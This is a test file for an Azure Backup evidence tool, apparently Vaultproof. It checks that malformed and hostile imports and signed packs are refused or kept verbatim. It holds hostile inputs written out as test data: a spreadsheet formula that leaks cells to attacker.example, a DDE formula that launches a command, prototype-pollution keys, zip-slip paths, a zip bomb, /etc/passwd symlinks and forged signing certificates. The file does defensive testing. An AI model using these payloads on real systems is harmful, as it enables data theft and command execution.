/**
 * The bad-input corpus (test/fixtures/bad/README.md lists every case): each
 * file is refused with its exact message and leaves the store exactly as it
 * was, or — where the input is odd but legitimate — is accepted and kept
 * verbatim. Big inputs (100k-level nesting, 10 MB strings, a zip bomb,
 * symlinks) are made at test time.
 */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { before, describe, it } from 'node:test';
import { EXPECTED } from '../../electron/core/import/index.ts';
import { ruleIds } from '../../shared/domain/findings-rules.ts';
import { makeZip, zerosBomb } from './zipkit.ts';
import {
  V1_CA,
  V1_PACK,
  appendRetitle,
  cmsSign,
  copyPack,
  forgeTimestampToken,
  graftTimestamp,
  issue,
  makeCa,
  rawZip,
  resignPack,
  resignPdf,
  selfSigned,
  signatureValue,
  v1ZipEntries,
  type RawEntry,
} from '../packs/verify-forge.ts';
import { badFixtures, cli, env, errorOf, expectUnchanged, storeState, tempDir } from './helpers.ts';

const bad = (...p: string[]) => path.join(badFixtures, ...p);
const ONE_ITEM = bad('import', 'good-one-item.json');
const VM1_KEY =
  '/subscriptions/00000000-0000-0000-0000-000000000001/resourcegroups/rg-app/providers/microsoft.recoveryservices/vaults/vault1/backupfabrics/azure/protectioncontainers/iaasvmcontainer;iaasvmcontainerv2;rg-app;vm1/protecteditems/vm;iaasvmcontainerv2;rg-app;vm1';

/** A store holding one snapshot of the one-item fixture (vm1) and one annotation on it. */
async function vm1Store(): Promise<string> {
  const store = path.join(tempDir('vp-corpus-'), 'store.db');
  const r = await cli(['import', ONE_ITEM, '--store', store, '--json', '--as-of', '2026-11-01T00:00:00Z'], env);
  assert.equal(r.code, 0, r.stderr);
  const a = await cli(['annotate', VM1_KEY, '--team', 'Ops', '--reason', 'seed', '--store', store, '--json'], env);
  assert.equal(a.code, 0, a.stderr);
  return store;
}

function write(name: string, content: string | Buffer): string {
  const p = path.join(tempDir('vp-corpus-in-'), name);
  fs.writeFileSync(p, content);
  return p;
}

describe('bad-input corpus: import', () => {
  let store: string;
  before(async () => {
    store = await vm1Store();
  });
  const refused = async (files: string[], message: string, extra: string[] = [], more: Record<string, string> = {}) => {
    const err = await expectUnchanged(store, () => cli(['import', ...files, ...extra, '--store', store, '--json'], { ...env, ...more }));
    assert.equal(err.message, message);
    return err;
  };

  it('truncated JSON: located where the file ends', async () => {
    const f = bad('import', 'truncated.json');
    const err = await refused([ONE_ITEM, f], `${f}:10:30: invalid JSON: the JSON ends early (truncated file?)`);
    assert.deepEqual([err.file, err.line, err.column], [f, 10, 30]);
  });

  it('Latin-1 text is not guessed: the first invalid UTF-8 byte is named', async () => {
    const f = bad('import', 'latin1.json');
    await refused([f], `${f}: not valid UTF-8 text (at byte 13); expected a JSON or CSV export`);
  });

  it('UTF-16 cut in the middle of a character', async () => {
    const f = bad('import', 'utf16-cut.json');
    await refused([f], `${f}: not valid UTF-16 text: it ends in the middle of a character (truncated file?); expected a JSON or CSV export`);
  });

  it('UTF-32 is named as such', async () => {
    const f = bad('import', 'utf32.json');
    await refused([f], `${f}: UTF-32 text; Vaultproof reads UTF-8 and UTF-16 — re-save it as UTF-8`);
  });

  it('wrong shape: {"value": "not a list"}', async () => {
    const f = bad('import', 'value-not-a-list.json');
    await refused([f], `${f}: a JSON object that is not a resource, a list ({value: [...]}) or a Resource Graph result; expected ${EXPECTED}`);
  });

  it('wrong shape: a list of numbers', async () => {
    const f = bad('import', 'numbers.json');
    await refused([f], `${f}: holds no Azure Backup data (found 3 × number); expected ${EXPECTED}`);
  });

  it('wrong shape: an id that is a number', async () => {
    const f = bad('import', 'id-number.json');
    await refused([f], `${f}: item 1: "id" is a number (12345), expected a resource id (a string)`);
  });

  it('wrong shape: properties that is a string', async () => {
    const f = bad('import', 'properties-string.json');
    await refused([f], `${f}: item 1: "properties" is a string ("Protected"), expected an object`);
  });

  it('a number beyond ±1.8e308', async () => {
    const f = bad('import', 'huge-number.json');
    await refused([f], `${f}: item 1: properties.protectedItemDataId: the number is too large to keep (beyond ±1.8e308; JSON.parse reads it as Infinity)`);
  });

  it('an impossible date', async () => {
    const f = bad('import', 'impossible-date.json');
    await refused([f], `${f}: item 1: properties.lastBackupTime: "2026-02-30T01:00:00Z" is not a real date and time`);
  });

  it('--as-of naming an impossible date', async () => {
    await refused([ONE_ITEM], 'the "as of" time "2026-02-30T00:00:00Z" is not an ISO-8601 time (e.g. 2026-11-01T08:00:00Z)', ['--as-of', '2026-02-30T00:00:00Z']);
  });

  it('a Resource Graph CSV with an unclosed quote', async () => {
    const f = bad('import', 'unclosed-quote.csv');
    await refused([f], `${f}:2: invalid CSV: Quote Not Closed: the parsing is finished with an opening quote at line 2`);
  });

  it('100,000 levels of nesting inside an item: a BAD_INPUT, not a stack overflow', async () => {
    const deep = `${'['.repeat(100_000)}${']'.repeat(100_000)}`;
    const f = write('deep.json', fs.readFileSync(ONE_ITEM, 'utf8').replace('"properties": {', `"properties": {\n    "nested": ${deep},`));
    await refused([f], `${f}: item 1: nested more than 100 levels deep (at properties.nested${'[0]'.repeat(21)}…); not an Azure export`);
  });

  it('the same nesting in a file big enough to be streamed', async () => {
    const deep = `${'{"a":'.repeat(50_000)}1${'}'.repeat(50_000)}`;
    const f = write('deep-streamed.json', `{"value": [${deep}]}`);
    await refused([f], `${f}: item 1: nested more than 100 levels deep (at ${'a.'.repeat(40)}…); not an Azure export`, [], { VAULTPROOF_STREAM_THRESHOLD: '1000' });
  });

  it('a symbolic link loop', async () => {
    const dir = tempDir('vp-corpus-in-');
    const a = path.join(dir, 'a.json');
    fs.symlinkSync(path.join(dir, 'b.json'), a);
    fs.symlinkSync(a, path.join(dir, 'b.json'));
    await refused([a], `${a}: cannot read: ELOOP: too many symbolic links encountered, stat '${a}'`);
  });

  it('a symbolic link to a folder', async () => {
    const dir = tempDir('vp-corpus-in-');
    const link = path.join(dir, 'exports.json');
    fs.symlinkSync(tempDir('vp-corpus-target-'), link);
    await refused([link], `${link}: is a directory; give the export files inside it (e.g. ${path.join(link, '*.json')})`);
  });
});

describe('bad-input corpus: import of odd but legitimate data keeps it verbatim', () => {
  it('formula-looking names are data: stored and shown exactly as written', async () => {
    const store = await vm1Store();
    const f = bad('import', 'formula-names.json');
    const r = await cli(['import', f, '--store', store, '--json', '--as-of', '2026-11-02T00:00:00Z'], env);
    assert.equal(r.code, 0, r.stderr);
    const id = (JSON.parse(r.stdout) as { snapshotId: string }).snapshotId;
    const [item] = JSON.parse((await cli(['items', id, '--store', store, '--json'], env)).stdout) as Array<{ name: string }>;
    assert.equal(item!.name, '=HYPERLINK("http://attacker.example/?leak="&A1,"vm1")');
  });

  it('a "__proto__" column in a Resource Graph CSV is a field, not a prototype', async () => {
    const store = await vm1Store();
    const r = await cli(['import', bad('import', 'proto-column.csv'), '--store', store, '--json', '--as-of', '2026-11-02T00:00:00Z'], env);
    assert.equal(r.code, 0, r.stderr);
    assert.equal(({} as Record<string, unknown>).polluted, undefined);
    const id = (JSON.parse(r.stdout) as { snapshotId: string }).snapshotId;
    const shown = JSON.parse((await cli(['show', id, VM1_KEY, '--store', store, '--json'], env)).stdout) as { raw: Record<string, unknown> };
    assert.ok(Object.hasOwn(shown.raw, '__proto__'));
    assert.deepEqual(shown.raw['__proto__' as keyof typeof shown.raw], { polluted: true });
  });

  it('a 10 MB name is stored whole and verifies', async () => {
    const store = await vm1Store();
    const name = 'x'.repeat(10 * 1024 * 1024);
    const f = write('ten-mb-name.json', fs.readFileSync(ONE_ITEM, 'utf8').replace('"friendlyName": "vm1"', `"friendlyName": "${name}"`));
    const r = await cli(['import', f, '--store', store, '--json', '--as-of', '2026-11-02T00:00:00Z'], env);
    assert.equal(r.code, 0, r.stderr);
    const id = (JSON.parse(r.stdout) as { snapshotId: string }).snapshotId;
    const [item] = JSON.parse((await cli(['items', id, '--store', store, '--json'], env)).stdout) as Array<{ name: string }>;
    assert.equal(item!.name.length, name.length);
    assert.equal((await cli(['store', 'verify', '--store', store, '--json'], env)).code, 0);
  });
});

describe('bad-input corpus: owners CSV', () => {
  let store: string;
  before(async () => {
    store = await vm1Store();
  });
  const owners = (file: string, match = 'Server=name', column = 'owner=Owner') => cli(['owners', 'import', file, '--match', match, '--column', column, '--store', store, '--json'], env);

  it('Latin-1 is refused, not read as "Jos\\uFFFD"', async () => {
    const f = bad('owners', 'latin1.csv');
    const err = await expectUnchanged(store, () => owners(f));
    assert.equal(err.message, `${f}: not valid UTF-8 text (at byte 20); expected a JSON or CSV export`);
  });

  it('an unclosed quote names the line', async () => {
    const f = bad('owners', 'unclosed-quote.csv');
    const err = await expectUnchanged(store, () => owners(f));
    assert.equal(err.message, 'unclosed-quote.csv line 2: not a readable CSV file (Quote Not Closed: the parsing is finished with an opening quote at line 2)');
    assert.equal(err.line, 2);
  });

  it('a 10 MB owner is skipped with a warning, and nothing is written', async () => {
    const f = write('cmdb.csv', `Server,Owner\nvm1,${'A'.repeat(10 * 1024 * 1024)}\n`);
    const before = storeState(store);
    const r = await owners(f);
    assert.equal(r.code, 0, r.stderr);
    const res = JSON.parse(r.stdout) as { warnings: string[]; entriesWritten: number; changes: unknown[] };
    assert.deepEqual(res.warnings, [`line 2: Owner is ${10 * 1024 * 1024} characters long (more than 10000); skipped`]);
    assert.equal(res.entriesWritten, 0);
    assert.equal(storeState(store), before);
  });

  it('"__proto__" and "constructor" columns are data', async () => {
    const s = await vm1Store();
    const r = await cli(['owners', 'import', bad('owners', 'proto-columns.csv'), '--match', '__proto__=name', '--column', 'owner=constructor', '--store', s, '--json'], env);
    assert.equal(r.code, 0, r.stderr);
    const res = JSON.parse(r.stdout) as { matched: Array<{ line: number }>; changes: Array<{ field: string; newValue: string }> };
    assert.deepEqual(res.matched.map((m) => m.line), [2]);
    assert.deepEqual(res.changes.map((c) => [c.field, c.newValue]), [['owner', 'Bob']]);
    assert.equal(({} as Record<string, unknown>).trim, undefined);
  });

  it('a formula-looking owner is stored verbatim', async () => {
    const s = await vm1Store();
    const r = await cli(['owners', 'import', bad('owners', 'formula-owner.csv'), '--match', 'Server=name', '--column', 'owner=Owner', '--store', s, '--json'], env);
    assert.equal(r.code, 0, r.stderr);
    const log = JSON.parse((await cli(['log', '--store', s, '--json'], env)).stdout) as Array<{ field: string; newValue: unknown }>;
    assert.deepEqual(log.filter((e) => e.field === 'owner').map((e) => e.newValue), ["=cmd|' /C calc'!A0"]);
  });

  it('UTF-16 with a byte-order mark (Excel "Unicode text") is read', async () => {
    const s = await vm1Store();
    const r = await cli(['owners', 'import', bad('owners', 'utf16-bom.csv'), '--match', 'Server=name', '--column', 'owner=Owner', '--store', s, '--json'], env);
    assert.equal(r.code, 0, r.stderr);
    assert.deepEqual((JSON.parse(r.stdout) as { changes: Array<{ newValue: string }> }).changes.map((c) => c.newValue), ['Zoë']);
  });
});

describe('bad-input corpus: audit profiles and rate cards', () => {
  let store: string;
  before(async () => {
    store = await vm1Store();
  });
  const findings = (f: string) => cli(['findings', 'latest', '--profile', f, '--store', store, '--json'], env);
  const cost = (f: string) => cli(['cost', 'latest', '--ratecard', f, '--store', store, '--json'], env);
  const cases: Array<[string, (f: string) => ReturnType<typeof cli>, string, (f: string) => string]> = [
    ['a truncated profile', findings, bad('profiles', 'truncated.json'), (f) => `${f}:6:3: invalid JSON: the JSON ends early (truncated file?)`],
    ['a profile that is a list', findings, bad('profiles', 'array.json'), (f) => `${f}: not a valid audit profile: (root): Invalid input: expected object, received array`],
    ['a profile threshold of 1e400', findings, bad('profiles', 'huge-number.json'), (f) => `${f}: not a valid audit profile: irPendingMaxDays: Invalid input: expected number, received Infinity`],
    [
      'a misspelt rule id in severities',
      findings,
      bad('profiles', 'misspelt-rule.json'),
      (f) => `${f}: not a valid audit profile: severities.rpo-breech: unknown rule id (the rules are ${ruleIds.join(', ')})`,
    ],
    ['a "__proto__" key in a profile', findings, bad('profiles', 'proto-key.json'), (f) => `${f}: the key "__proto__" (at severities.__proto__) is not allowed`],
    ['a rate card effective 2026-02-30', cost, bad('ratecards', 'impossible-date.json'), (f) => `${f}: not a valid rate card: effectiveDate: not a real calendar date`],
    [
      'a price of 1e308',
      cost,
      bad('ratecards', 'huge-price.json'),
      (f) => `${f}: not a valid rate card: default.instanceFee.tiers.0.price: a price above 1000000 is not plausible (and would lose precision in cents)`,
    ],
    ['a lower-case currency', cost, bad('ratecards', 'lower-case-currency.json'), (f) => `${f}: not a valid rate card: currency: Invalid string: must match pattern /^[A-Z]{3}$/`],
    [
      'a "__proto__" region',
      cost,
      bad('ratecards', 'proto-region.json'),
      (f) => `${f}: the key "__proto__" (at regions.__proto__) is not allowed`,
    ],
  ];
  for (const [name, run, file, message] of cases) {
    it(name, async () => {
      const err = await expectUnchanged(store, () => run(file));
      assert.equal(err.message, message(file));
    });
  }

  it('a profile nested 100,000 levels deep is refused by its schema, not by the stack', async () => {
    const profile = JSON.parse(fs.readFileSync(path.join(badFixtures, '..', '..', '..', 'assets', 'profiles', 'default.json'), 'utf8')) as Record<string, unknown>;
    const f = write('deep-profile.json', JSON.stringify(profile).replace('"description":', `"description": ${'['.repeat(100_000)}${']'.repeat(100_000)}, "was":`));
    const err = await expectUnchanged(store, () => findings(f));
    assert.equal(err.message, `${f}: not a valid audit profile: description: Invalid input: expected string, received array; (root): Unrecognized key: "was"`);
  });
});

describe('bad-input corpus: pack verification (exit 3, never valid, nothing unpacked)', () => {
  const verify = async (location: string): Promise<string> => {
    const r = await cli(['verify', location, '--json'], env);
    assert.equal(r.code, 3, r.stdout + r.stderr);
    const err = errorOf(r.stderr);
    assert.equal(err.code, 'VERIFY_FAILED');
    assert.equal((JSON.parse(r.stdout) as { intact: boolean }).intact, false);
    return err.message;
  };
  const zip = (name: string, bytes: Buffer) => write(name, bytes);
  const tiny = Buffer.from('{}');

  it('a zip bomb: a manifest.json unpacking to 300 MB from 300 KB is refused unread', async () => {
    const f = zip('bomb.zip', makeZip([{ name: 'manifest.json', deflated: zerosBomb(300) }, { name: 'manifest.p7s', data: tiny }]));
    assert.ok(fs.statSync(f).size < 400 * 1024);
    const rssBefore = process.memoryUsage().rss;
    assert.equal(await verify(f), `manifest.json: manifest.json unpacks to ${300 * 1024 * 1024} bytes, more than any pack file Vaultproof reads whole (268435456); refused without reading it (a zip bomb?)`);
    assert.ok(process.memoryUsage().rss - rssBefore < 200 * 1024 * 1024, 'the bomb was not unpacked');
  });

  it('a backslash path that climbs out', async () => {
    const f = zip('backslash.zip', makeZip([{ name: 'manifest.json', data: tiny }, { name: '..\\evil.txt', data: tiny }]));
    assert.equal(await verify(f), '../evil.txt: zip entry "../evil.txt" climbs out of the pack (..); refused');
  });

  it('a file twice in one zip', async () => {
    const f = zip('dup.zip', makeZip([{ name: 'manifest.json', data: tiny }, { name: 'manifest.json', data: Buffer.from('{"x":1}') }]));
    assert.equal(await verify(f), 'manifest.json: zip entry "manifest.json" appears twice; refused');
  });

  it('a truncated zip', async () => {
    const whole = makeZip([{ name: 'manifest.json', data: Buffer.alloc(1000, 0x20) }, { name: 'manifest.p7s', data: tiny }]);
    const f = zip('truncated.zip', whole.subarray(0, 600));
    assert.equal(await verify(f), `truncated.zip: ${f} is not a readable zip (End of central directory record signature not found. Either not a zip file, or file is truncated.)`);
  });

  it('a symbolic link in a pack folder is never followed', async () => {
    const dir = tempDir('vp-corpus-pack-');
    fs.symlinkSync('/etc/passwd', path.join(dir, 'manifest.json'));
    assert.equal(await verify(dir), 'manifest.json: manifest.json is a symbolic link; a pack holds plain files only');
  });

  it('a symlink entry in a zip is read as plain bytes, never followed', async () => {
    const f = zip('symlink.zip', makeZip([{ name: 'manifest.json', data: Buffer.from('/etc/passwd'), mode: 0o120777 }, { name: 'manifest.p7s', data: tiny }]));
    assert.equal(await verify(f), 'manifest.p7s: not a readable CMS signature (element at byte 0 runs past its container)');
  });

  it('a folder that is not a pack', async () => {
    const dir = tempDir('vp-corpus-pack-');
    fs.writeFileSync(path.join(dir, 'report.pdf'), '%PDF-1.7\n');
    assert.equal(await verify(dir), 'manifest.json: missing: this is not a Vaultproof pack, or the manifest was removed');
  });
});

describe('bad-input corpus: forged and hostile packs (issue 14; forgeries made with openssl, test/packs/verify-forge.ts)', () => {
  const dir = tempDir('vp-corpus-forged-');
  const verifyFails = async (args: string[]): Promise<string> => {
    const r = await cli(['verify', ...args, '--json'], env);
    assert.equal(r.code, 3, r.stdout + r.stderr);
    const err = errorOf(r.stderr);
    assert.equal(err.code, 'VERIFY_FAILED');
    return err.message;
  };
  const zipWith = (name: string, extra: RawEntry[]): string => {
    const f = path.join(dir, name);
    fs.writeFileSync(f, rawZip(v1ZipEntries(extra)));
    return f;
  };
  const signerExt = ['keyUsage=critical,digitalSignature,nonRepudiation', 'extendedKeyUsage=emailProtection'];

  it('43. a zip entry named with ESC sequences', async () => {
    const f = zipWith('esc.zip', [{ name: 'data/\u001b[H\u001b[2Jx.json', data: Buffer.from('{}') }]);
    assert.equal(await verifyFails([f]), 'data/\\u001b[H\\u001b[2Jx.json: zip entry "data/\\u001b[H\\u001b[2Jx.json" contains control characters; refused');
  });

  it('44. a zip folder entry holding bytes', async () => {
    const f = zipWith('dir-bytes.zip', [{ name: 'data/', data: Buffer.from('hidden') }]);
    assert.equal(await verifyFails([f]), 'data/: zip entry "data/" is a folder entry holding 6 bytes; refused');
  });

  it('45. a named pipe in a pack folder', async () => {
    const pack = copyPack(path.join(dir, 'fifo'));
    execFileSync('mkfifo', [path.join(pack, 'data', 'pipe.json')]);
    assert.equal(await verifyFails([pack]), 'data/pipe.json: data/pipe.json is not a regular file (a named pipe); a pack holds plain files only');
  });

  it('46. a key twice in manifest.json, under a valid signature', async () => {
    const pack = copyPack(path.join(dir, 'dup'));
    const m = path.join(pack, 'manifest.json');
    fs.writeFileSync(m, fs.readFileSync(m, 'utf8').replace('"complete": true,', '"complete": true,\n  "complete": false,'));
    cmsSign(m, selfSigned(path.join(dir, 'keys'), 'dup-signer', '/CN=Dup', signerExt), path.join(pack, 'manifest.p7s'));
    assert.equal(await verifyFails([pack]), 'manifest.json: the key "complete" appears twice (at $.complete); readers would disagree on its value');
  });

  it('47. a zip of 100,000 entries', async () => {
    const f = zipWith('100k.zip', Array.from({ length: 100_000 }, (_, i) => ({ name: `data/f${i}.json`, data: Buffer.alloc(0) })));
    assert.equal(await verifyFails([f]), '100k.zip: 100k.zip holds 100014 entries, more than any evidence pack (10000); refused without reading them');
  });

  it('48. report.pdf on its own with an incremental update appended (a new title)', async () => {
    const pdf = path.join(dir, 'retitled.pdf');
    fs.writeFileSync(pdf, appendRetitle(fs.readFileSync(path.join(V1_PACK, 'report.pdf')), 'All backups verified'));
    assert.equal(await verifyFails([pdf]), `report.pdf: embedded signature: the signed byte range [0 154 32924 66254] does not cover the whole file (${fs.statSync(pdf).size} bytes): content was added or cut after signing`);
  });

  it('49. a pack re-signed by a look-alike self-signed certificate, verified with --trust', async () => {
    const pack = copyPack(path.join(dir, 'look-alike'));
    const forger = selfSigned(path.join(dir, 'keys'), 'look-alike', '/CN=Vaultproof Demo Auditor/emailAddress=auditor@contoso.example', signerExt);
    resignPack(pack, forger, (p) => resignPdf(path.join(p, 'report.pdf'), forger, dir));
    assert.equal(await verifyFails([pack, '--trust', V1_CA]), 'a signer does not chain to a --trust anchor');
  });

  it('50. report.pdf signed by another certificate than the manifest', async () => {
    const pack = copyPack(path.join(dir, 'pdf-other'));
    const a = selfSigned(path.join(dir, 'keys'), 'a', '/CN=A', signerExt);
    const b = selfSigned(path.join(dir, 'keys'), 'b', '/CN=B', signerExt);
    resignPack(pack, a, (p) => resignPdf(path.join(p, 'report.pdf'), b, dir));
    assert.equal(await verifyFails([pack]), `report.pdf: signed by a different certificate (SHA-256 ${b.fingerprint}) than the manifest names (${a.fingerprint})`);
  });

  it('51. a signer certificate whose key usage does not allow signing', async () => {
    const pack = copyPack(path.join(dir, 'ku'));
    const k = selfSigned(path.join(dir, 'keys'), 'ku', '/CN=Key Encipherment Only', ['keyUsage=critical,keyEncipherment']);
    resignPack(pack, k, (p) => resignPdf(path.join(p, 'report.pdf'), k, dir));
    assert.equal(await verifyFails([pack]), 'manifest.p7s: the signer certificate may not sign: its key usage allows neither digitalSignature nor nonRepudiation');
  });

  it('52. odd but legitimate: a timestamp from a self-made TSA grafted into manifest.p7s is ignored, said so, exit 0', async () => {
    const pack = copyPack(path.join(dir, 'fake-tsa'));
    const root = makeCa(path.join(dir, 'tsa'), 'root', 'Fake TSA Root');
    const tsa = issue(path.join(dir, 'tsa'), root, 'tsa', '/CN=Fake TSA', 'basicConstraints=CA:FALSE\nkeyUsage=critical,digitalSignature\nextendedKeyUsage=critical,timeStamping\n');
    const p7s = path.join(pack, 'manifest.p7s');
    fs.writeFileSync(p7s, graftTimestamp(fs.readFileSync(p7s), forgeTimestampToken(dir, tsa, signatureValue(fs.readFileSync(p7s)), new Date('2035-01-01T00:00:00Z'))));
    const r = await cli(['verify', pack, '--trust', V1_CA, '--json'], env);
    assert.equal(r.code, 0, r.stdout);
    const v = JSON.parse(r.stdout) as { warnings: string[]; signatures: Array<{ timeSource: string }> };
    assert.deepEqual(v.warnings, ["manifest.p7s: timestamp not trusted — ignored (its time 2035-01-01T00:00:00.000Z is in the future); the signing time is the signer's own clock"]);
    assert.equal(v.signatures[0]!.timeSource, 'signer clock');
  });
});

describe('bad-input corpus: raw JSON kept exactly, and errors that quote nothing (issue 16)', () => {
  let store: string;
  before(async () => {
    store = await vm1Store();
  });

  it('53. a 20-digit id and 1e-400 are kept as written in the raw JSON', async () => {
    const f = bad('import', 'verbatim-numbers.json');
    const r = await cli(['import', f, '--store', store, '--json', '--as-of', '2026-11-02T00:00:00Z'], env);
    assert.equal(r.code, 0, r.stderr);
    const id = (JSON.parse(r.stdout) as { snapshotId: string }).snapshotId;
    const show = JSON.parse((await cli(['show', id, VM1_KEY, '--store', store, '--json'], env)).stdout) as { rawText: string };
    assert.ok(show.rawText.includes('"protectedItemDataId": 12345678901234567891,\n    "resourceGuardOperationRequestsCount": 1e-400,'), show.rawText);
  });

  it('54. a key given twice: a warning naming it and the record; the normalised record takes the last value', async () => {
    const f = bad('import', 'duplicate-keys.json');
    const r = await cli(['import', f, '--store', store, '--json', '--as-of', '2026-11-02T00:00:00Z'], env);
    assert.equal(r.code, 0, r.stderr);
    const res = JSON.parse(r.stdout) as { snapshotId: string; warnings: string[] };
    assert.ok(res.warnings.includes(`${f}: item 1 (item ${VM1_KEY}): the key "friendlyName" appears more than once (at properties.friendlyName); the normalised record takes the last value, the raw JSON keeps both`), res.warnings.join('\n'));
    const items = JSON.parse((await cli(['items', res.snapshotId, '--store', store, '--json'], env)).stdout) as Array<{ name: string }>;
    assert.deepEqual(items.map((i) => i.name), ['vm1']);
  });

  it('55. an unpaired surrogate escape is refused, naming file, item and field', async () => {
    const f = bad('import', 'lone-surrogate.json');
    const err = await expectUnchanged(store, () => cli(['import', f, '--store', store, '--json'], env));
    assert.equal(err.message, `${f}: item 1: properties.friendlyName: \\ud800 is half of a UTF-16 surrogate pair without its other half, which is not text (it cannot be stored and read back the same); fix or re-export the file`);
  });

  it('65. a file that is not an export: named, its first line not printed', async () => {
    const f = write('shadow', 'root:$6$salt$hash:19000:0:99999:7:::\n');
    const err = await expectUnchanged(store, () => cli(['import', f, '--store', store, '--json'], env));
    assert.equal(err.message, `${f}:1:1: neither JSON nor CSV (it does not start with { or [ and its first line has no comma); expected ${EXPECTED}`);
  });

  it('66. an owners file with a one-field first line: its header is not printed', async () => {
    const f = write('passwd', 'root:x:0:0:root:/root:/bin/bash\n');
    const r = await cli(['owners', 'import', f, '--match', 'Server=name', '--column', 'owner=Owner', '--store', store, '--json'], env);
    assert.equal(r.code, 1);
    assert.equal(errorOf(r.stderr).message, 'passwd: column "Server" (the column to match on) is not in the header; the first line is not a CSV header (it has no comma)');
  });

  it('70. a password file given as a profile, a rate card or an annotations export: named, never quoted', async () => {
    const f = write('passwd', 'root:SECRETx:0:0:root:/root:/bin/bash\n');
    const runs = [
      ['findings', 'latest', '--profile', f],
      ['cost', 'latest', '--ratecard', f],
      ['annotations', 'merge', f],
    ];
    const messages: string[] = [];
    for (const args of runs) {
      const r = await cli([...args, '--store', store, '--json'], env);
      assert.equal(r.code, 1, r.stdout);
      messages.push(errorOf(r.stderr).message);
    }
    assert.deepEqual(messages, [`${f}:2:1: invalid JSON: Unexpected character`, `${f}:2:1: invalid JSON: Unexpected character`, 'passwd is not JSON (Unexpected character)']);
  });

  it('67. a CSV quoting error does not quote the field', async () => {
    const f = write('q.csv', 'id,name\n"/subscriptions/x"secret-value,2\n');
    const err = await expectUnchanged(store, () => cli(['import', f, '--store', store, '--json'], env));
    assert.equal(err.message, `${f}:2: invalid CSV: Invalid Closing Quote: got another character at line 2 instead of delimiter, record delimiter, trimable character (if activated) or comment`);
  });
});
